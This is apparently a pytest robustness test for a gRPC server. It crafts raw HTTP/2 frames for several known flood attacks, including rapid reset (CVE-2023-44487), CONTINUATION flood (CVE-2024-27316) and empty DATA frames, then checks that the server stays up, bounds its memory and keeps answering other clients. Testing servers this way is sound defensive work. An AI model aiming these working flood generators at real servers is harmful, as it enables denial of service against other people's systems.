"""Attacks on HTTP/2, byte by byte: row 13."""

import contextlib
import socket
import struct
import threading
import time

import pytest
from clients import Api, greedy, tiny

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    return bytes([len(value)]) + value.encode()


def header(name, value):
    """A field that no table remembers (RFC 7541, 6.2.2)."""
    return b"\x00" + text(name) + text(value)


CALL = b"".join(
    header(name, value)
    for name, value in {
        ":method": "POST",
        ":scheme": "http",
        ":path": "/ebb.v1.Ebb/Generate",
        ":authority": "ebb",
        "content-type": "application/grpc",
        "te": "trailers",
    }.items()
)


def rapid_reset(count):
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    for i in range(count):
        stream = 2 * i + 1
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, CANCEL)


def continuations(count):
    """Headers that do not end (CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, CALL)
    for i in range(count):
        yield frame(CONTINUATION, 0, 1, header(f"x-{i}", "y" * 100))


def pings(count):
    for _ in range(count):
        yield frame(PING, 0, 0, b"12345678")


def settings(count):
    for _ in range(count):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))


def empty_data(count):
    """Parts of a body without a byte (CVE-2019-9518)."""
    yield frame(HEADERS, END_HEADERS, 1, CALL)
    for _ in range(count):
        yield frame(DATA, 0, 1)


def headers_without_end(count):
    """Calls whose messages never come."""
    for i in range(count):
        yield frame(HEADERS, END_HEADERS, 2 * i + 1, CALL)


def window_updates(count):
    for _ in range(count):
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


def garbage(count):
    """Frames of kinds and on streams that cannot be."""
    for i in range(count):
        yield frame(i % 256, i % 7, (i * 7919) % 1000, bytes(i % 50))


ATTACKS = [
    rapid_reset,
    continuations,
    pings,
    settings,
    empty_data,
    headers_without_end,
    window_updates,
    garbage,
]


def attack(address, frames, seconds):
    """Sends frames until the server closes or time is over; whether it closed."""
    host, port = address.rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=5) as conn:
        conn.sendall(PREFACE + frame(SETTINGS))
        deadline, batch = time.monotonic() + seconds, []
        try:
            for one in frames:
                batch.append(one)
                if len(batch) == 64:
                    conn.sendall(b"".join(batch))
                    batch.clear()
                if time.monotonic() > deadline:
                    return False
            conn.sendall(b"".join(batch))
        except (ConnectionError, TimeoutError):
            # Closed, or nothing is taken from a client that does not read.
            return True
    return False


@pytest.fixture(scope="module")
def attacked():
    with tiny() as server:
        yield server


@pytest.mark.parametrize("kind", ATTACKS, ids=lambda kind: kind.__name__)
def test_row_13_floods_cost_their_connection(attacked, kind, full, record):
    count = 100_000 if full else 5000
    server = attacked
    with contextlib.closing(Api(server.address)) as api:
        assert api.generate("warm", sampling=greedy(4)).status.name == "OK"
        before, peak, closed = server.memory(), 0.0, []
        attackers = [
            threading.Thread(target=lambda: closed.append(attack(server.address, kind(count), 30)))
            for _ in range(4)
        ]
        for thread in attackers:
            thread.start()
        slowest = 0.0
        while any(thread.is_alive() for thread in attackers):
            began = time.monotonic()
            answer = api.generate("Hi", sampling=greedy(2), timeout=10)
            assert answer.status.name == "OK", answer.message
            slowest = max(slowest, time.monotonic() - began)
            peak = max(peak, server.memory())
        peak = max(peak, server.memory())
        assert api.generate("after", sampling=greedy(4)).status.name == "OK"
    server.idle()
    name = kind.__name__.replace("_", " ")
    record(13, f"{name}: memory", max(0.0, peak - before), "MiB", "≤ 64")
    record(13, f"{name}: closed", sum(closed), "of 4 as they sent", "-")
    record(13, f"{name}: slowest answer to others", 1000 * slowest, "ms", "-")
    assert peak - before <= 64
    assert server.process.poll() is None
    assert not [line for line in server.log if "panicked" in line]
